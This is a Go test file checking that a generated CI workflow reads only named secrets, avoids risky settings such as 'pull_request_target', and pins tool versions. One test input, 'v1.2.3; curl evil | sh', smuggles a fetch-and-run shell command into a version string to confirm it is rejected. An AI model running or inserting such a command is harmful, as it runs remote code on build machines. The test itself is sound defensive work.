package cli

import (
	"regexp"
	"slices"
	"strings"
	"testing"
)

// The workflow reads exactly the two repository secrets the next steps
// name, each only through a ${{ secrets.X }} expression, and nothing else
// secret-shaped.
func TestCIWorkflowSecrets(t *testing.T) {
	wf := ciWorkflow("latest")
	any := regexp.MustCompile(`secrets\.([A-Za-z0-9_-]+)`).FindAllStringSubmatch(wf, -1)
	expr := regexp.MustCompile(`\$\{\{ secrets\.([A-Z0-9_]+) \}\}`).FindAllStringSubmatch(wf, -1)
	if len(any) == 0 || len(any) != len(expr) {
		t.Fatalf("%d secrets.X references, %d of them in ${{ }} expressions; want all", len(any), len(expr))
	}
	var names []string
	for _, m := range expr {
		names = append(names, m[1])
	}
	slices.Sort(names)
	names = slices.Compact(names)
	if !slices.Equal(names, ciSecrets) {
		t.Errorf("workflow reads secrets %q, want exactly %q", names, ciSecrets)
	}
	// The cloud token is needed by the pull step only.
	if n := strings.Count(wf, "secrets.PHANTOM_CLOUD_TOKEN"); n != 1 {
		t.Errorf("PHANTOM_CLOUD_TOKEN is given to %d steps, want 1", n)
	}
	for _, bad := range []string{"phm_", "secrets: inherit", "pull_request_target", ": write"} {
		if strings.Contains(wf, bad) {
			t.Errorf("workflow contains %q", bad)
		}
	}
}

func TestCIInstallVersion(t *testing.T) {
	for v, want := range map[string]string{
		"v1.2.3":                               "v1.2.3",
		"v0.4.0-rc.1":                          "v0.4.0-rc.1",
		"0.1.0-dev":                            "latest", // buildinfo's dev version
		"":                                     "latest",
		"28a55c2":                              "latest", // git describe without tags
		"v1.2.3-4-g28a55c2-dirty":              "latest",
		"v1.2.3-dirty":                         "latest",
		"v0.0.0-20260101120000-abcdef123456":   "latest", // pseudo-version
		"v1.2.4-0.20260101120000-abcdef123456": "latest",
		"v1.2.3; curl evil | sh":               "latest",
		"v1.2.3\n":                             "latest",
	} {
		if got := ciInstallVersion(v); got != want {
			t.Errorf("ciInstallVersion(%q) = %q, want %q", v, got, want)
		}
	}
	wf := ciWorkflow("v1.2.3")
	for _, want := range []string{
		"go install phantomstack.dev/phantom/cmd/phantom@v1.2.3\n",
		"go install phantomstack.dev/stack/cmd/stack@v1.2.3\n",
	} {
		if !strings.Contains(wf, want) {
			t.Errorf("workflow lacks %q", want)
		}
	}
	if strings.Contains(wf, "@latest") || strings.Contains(wf, "@VERSION") {
		t.Error("a release workflow still installs an unpinned version")
	}
}
